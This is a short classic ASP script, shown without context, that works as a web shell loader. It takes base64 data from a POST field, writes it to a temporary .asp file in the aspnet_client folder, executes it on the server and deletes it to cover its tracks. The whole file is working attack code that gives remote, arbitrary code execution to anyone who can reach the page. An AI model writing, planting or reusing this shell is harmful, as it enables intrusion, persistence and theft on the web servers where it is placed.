<%
Dim nm, stm, xml, el
If Request.Form("b") <> "" Then
    Set xml = Server.CreateObject("MSXML2.DOMDocument")
    Set el = xml.createElement("t")
    el.dataType = "bin.base64"
    el.Text = Request.Form("b")
    nm = "/aspnet_client/" & Replace(Session.SessionID, "-", "") & ".asp"
    Set stm = Server.CreateObject("ADODB.Stream")
    stm.Type = 1
    stm.Open
    stm.Write el.nodeTypedValue
    stm.SaveToFile Server.MapPath(nm), 2
    stm.Close
    Server.Execute nm
    Server.CreateObject("Scripting.FileSystemObject").DeleteFile Server.MapPath(nm)
End If
%>
